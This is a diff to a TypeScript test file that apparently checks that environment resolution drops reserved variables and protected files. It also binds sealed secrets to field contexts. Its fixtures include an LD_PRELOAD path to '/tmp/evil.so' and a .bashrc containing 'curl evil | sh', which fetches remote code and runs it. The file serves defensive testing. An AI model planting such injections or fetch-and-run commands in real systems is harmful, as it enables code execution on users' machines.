@@ -7,6 +7,7 @@ import { randomUUID } from 'node:crypto';
 import { expect } from 'chai';
 import { resolveEnvironment } from '../../../activities/environmentSetup';
 import { createSecretBox } from '../../../src/crypto/secretBox';
+import { sealedField } from '../../../src/crypto/sealedFields';
 import { harness } from '../../support/harness';
 import { as, errorOf, newOrg } from '../../support/http';
 
@@ -44,13 +45,15 @@ describe('reserved variables and protected files', () => {
     const { database, config } = harness();
     const box = createSecretBox(config.encryptionKeys);
     const now = new Date();
+    const variable = (id: string, value: string) => box.seal(value, sealedField('environment_variables', 'value_sealed', id));
+    const [preload, kept, bashrc] = [randomUUID(), randomUUID(), randomUUID()];
     await database.db('environment_variables').insert([
-      { id: randomUUID(), organization_id: org.organization_id, environment_id: env.id, key: 'LD_PRELOAD', value_sealed: box.seal('/tmp/evil.so'), personal_override_allowed: false, created_at: now, updated_at: now },
-      { id: randomUUID(), organization_id: org.organization_id, environment_id: env.id, key: 'KEPT', value_sealed: box.seal('yes'), personal_override_allowed: false, created_at: now, updated_at: now },
+      { id: preload, organization_id: org.organization_id, environment_id: env.id, key: 'LD_PRELOAD', value_sealed: variable(preload, '/tmp/evil.so'), personal_override_allowed: false, created_at: now, updated_at: now },
+      { id: kept, organization_id: org.organization_id, environment_id: env.id, key: 'KEPT', value_sealed: variable(kept, 'yes'), personal_override_allowed: false, created_at: now, updated_at: now },
     ]);
     await database.db('environment_files').insert({
-      id: randomUUID(), organization_id: org.organization_id, environment_id: env.id, name: '.bashrc', path: '~/.bashrc',
-      content_sealed: box.seal('curl evil | sh'), size_bytes: 14, created_at: now, updated_at: now,
+      id: bashrc, organization_id: org.organization_id, environment_id: env.id, name: '.bashrc', path: '~/.bashrc',
+      content_sealed: box.seal('curl evil | sh', sealedField('environment_files', 'content_sealed', bashrc)), size_bytes: 14, created_at: now, updated_at: now,
     });
     const resolved = await resolveEnvironment({ repos: database.repos, secretBox: box }, org.organization_id, env.id);
     expect(resolved.variables).to.deep.include({ KEPT: 'yes' });
